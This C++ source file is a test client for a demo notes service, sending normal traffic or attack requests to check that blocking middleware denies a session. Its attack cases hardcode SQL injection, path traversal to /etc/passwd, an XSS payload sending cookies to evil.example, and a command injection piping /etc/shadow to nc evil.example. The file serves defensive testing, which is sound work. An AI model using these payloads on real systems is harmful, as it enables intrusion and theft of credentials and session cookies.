// A client for examples/httplib_service (the notes service): sends requests as one session
// (cookie JSESSIONID), optionally naming a client address in "X-Forwarded-For" (the service
// trusts it only from a configured proxy), and counts the answers, so the live test
// (live_test.sh) and a person trying docs/integrate.md can see a service get blocked. Normal
// requests read notes (GET /notes/:id), search (GET /search?q=) and write notes (POST /notes,
// a JSON body), with words drawn from small lists; attack requests carry the usual classes (SQL
// injection, XSS, path traversal, command injection, an oversized value, a malformed body,
// tampered parameters). Bounded by --count and --seconds. Prints one line:
//   sent=N ok=N denied=N other=N first_denied=I|-1 seconds=S
// (denied: 403 from the middleware; other: any other non-2xx answer or a transport error).
//   immunizer-httplib-client [--host 127.0.0.1] --port 8090 --session alice [--ip 198.51.100.7]
//                            --kind normal|attack --count 100 [--rate 50] [--stop-when-denied]
//                            [--seconds 60] [--seed 1]
#include <httplib.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace {

struct Options {
  std::string host = "127.0.0.1";
  int port = 8090;
  std::string session = "alice";
  std::string ip;  // sent as X-Forwarded-For (honoured only from a trusted proxy)
  std::string kind = "normal";
  long count = 100;
  double rate = 50;
  double seconds = 60;
  bool stop_when_denied = false;
  unsigned seed = 1;
};

const std::vector<std::string> kWords = {
    "rioja",   "manchego", "aceite",   "jamon",   "turron", "azafran", "chorizo", "cava",
    "miel",    "pimenton", "mazapan",  "receta",  "compra", "viaje",   "madrid",  "sevilla",
    "reunion", "lunes",    "proyecto", "factura", "regalo", "cumple",  "tienda",  "envio"};
const std::vector<std::string> kTags = {"casa", "trabajo", "ideas", "compras", "viajes"};

template <typename T>
const T& pick(std::mt19937& rng, const std::vector<T>& v) {
  return v[std::uniform_int_distribution<size_t>(0, v.size() - 1)(rng)];
}
int uniform(std::mt19937& rng, int lo, int hi) {
  return std::uniform_int_distribution<int>(lo, hi)(rng);
}

std::string words(std::mt19937& rng, int lo, int hi, const char* sep) {
  std::string s;
  for (int n = uniform(rng, lo, hi), i = 0; i < n; ++i) s += (i ? sep : "") + pick(rng, kWords);
  return s;
}

struct Request {
  std::string method, path, body, content_type;
};

Request normal_request(std::mt19937& rng) {
  switch (uniform(rng, 0, 2)) {
    case 0:
      return {"GET", "/notes/" + std::to_string(uniform(rng, 1, 500)), "", ""};
    case 1:
      return {"GET", "/search?q=" + words(rng, 1, 3, "+"), "", ""};
    default: {
      std::string body = "{\"text\": \"" + words(rng, 2, 8, " ") + "\", \"tags\": [\"" +
                         pick(rng, kTags) +
                         "\"], \"pinned\": " + (uniform(rng, 0, 4) == 0 ? "true" : "false") + "}";
      return {"POST", "/notes", std::move(body), "application/json"};
    }
  }
}

Request attack_request(long i) {
  switch (i % 8) {
    case 0:
      return {"GET", "/search?q=%27+OR+%271%27%3D%271%27+--+" + std::to_string(i), "", ""};
    case 1:
      return {"POST", "/notes",
              "{\"text\": \"<script>document.location='http://evil.example/?c='+document.cookie"
              "</script>\", \"tags\": [\"casa\"], \"pinned\": false}",
              "application/json"};
    case 2:
      return {"GET", "/notes/..%2F..%2F..%2F..%2Fetc%2Fpasswd%00", "", ""};
    case 3:
      return {"GET", "/search?q=rioja%3B+cat+%2Fetc%2Fshadow+%7C+nc+evil.example+4444", "", ""};
    case 4:
      return {"GET", "/search?q=" + std::string(4000, 'A'), "", ""};
    case 5:
      return {"POST", "/notes", "{\"text\": \"a\", \"tags\": [[[[[[[[[[\"x\"]]]]]]]]]], \"pin",
              "application/json"};
    case 6:
      return {"GET", "/notes/-999999999999?admin=1&debug=true&role=root", "", ""};
    default:
      return {"GET", "/search?q=1+UNION+SELECT+username%2Cpassword+FROM+users", "", ""};
  }
}

bool parse(int argc, char** argv, Options& o) {
  for (int i = 1; i < argc; ++i) {
    const std::string a = argv[i];
    auto value = [&]() -> const char* { return i + 1 < argc ? argv[++i] : nullptr; };
    const char* v = nullptr;
    if (a == "--stop-when-denied") {
      o.stop_when_denied = true;
      continue;
    }
    if (!(v = value())) return false;
    if (a == "--host")
      o.host = v;
    else if (a == "--port")
      o.port = std::atoi(v);
    else if (a == "--session")
      o.session = v;
    else if (a == "--ip")
      o.ip = v;
    else if (a == "--kind")
      o.kind = v;
    else if (a == "--count")
      o.count = std::atol(v);
    else if (a == "--rate")
      o.rate = std::atof(v);
    else if (a == "--seconds")
      o.seconds = std::atof(v);
    else if (a == "--seed")
      o.seed = static_cast<unsigned>(std::atol(v));
    else
      return false;
  }
  return (o.kind == "normal" || o.kind == "attack") && o.port > 0 && o.port < 65536 &&
         o.count > 0 && o.count <= 1'000'000 && o.seconds > 0 && o.seconds <= 3600;
}

}  // namespace

int main(int argc, char** argv) {
  Options o;
  if (!parse(argc, argv, o)) {
    std::fprintf(stderr,
                 "usage: immunizer-httplib-client [--host H] [--port P] [--session S] [--ip ADDR] "
                 "[--kind normal|attack] [--count N] [--rate R] [--seconds S] "
                 "[--stop-when-denied] [--seed N]\n");
    return 2;
  }
  httplib::Client cli(o.host, o.port);
  // One connection per request: on a kept-alive connection httplib's server (TCP_NODELAY off by
  // default, headers and body written separately) waits ~40 ms per answer for the delayed ACK.
  cli.set_keep_alive(false);
  cli.set_connection_timeout(std::chrono::seconds(5));
  cli.set_read_timeout(std::chrono::seconds(5));
  httplib::Headers headers{{"Cookie", "JSESSIONID=" + o.session}};
  if (!o.ip.empty()) headers.emplace("X-Forwarded-For", o.ip);
  std::mt19937 rng(o.seed);
  long sent = 0, ok = 0, denied = 0, other = 0, first_denied = -1;
  const auto t0 = std::chrono::steady_clock::now();
  const auto deadline = t0 + std::chrono::duration<double>(o.seconds);
  for (long i = 0; i < o.count && std::chrono::steady_clock::now() < deadline; ++i) {
    if (o.rate > 0) std::this_thread::sleep_until(t0 + std::chrono::duration<double>(i / o.rate));
    const Request r = o.kind == "attack" ? attack_request(i) : normal_request(rng);
    const httplib::Result res = r.method == "POST"
                                    ? cli.Post(r.path, headers, r.body, r.content_type)
                                    : cli.Get(r.path, headers);
    ++sent;
    const int status = res ? res->status : 0;
    if (status >= 200 && status < 300) {
      ++ok;
    } else if (status == 403) {
      if (denied++ == 0) first_denied = i;
      if (o.stop_when_denied) break;
    } else {
      ++other;
    }
  }
  const double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
  std::printf("sent=%ld ok=%ld denied=%ld other=%ld first_denied=%ld seconds=%.2f\n", sent, ok,
              denied, other, first_denied, secs);
  return 0;
}
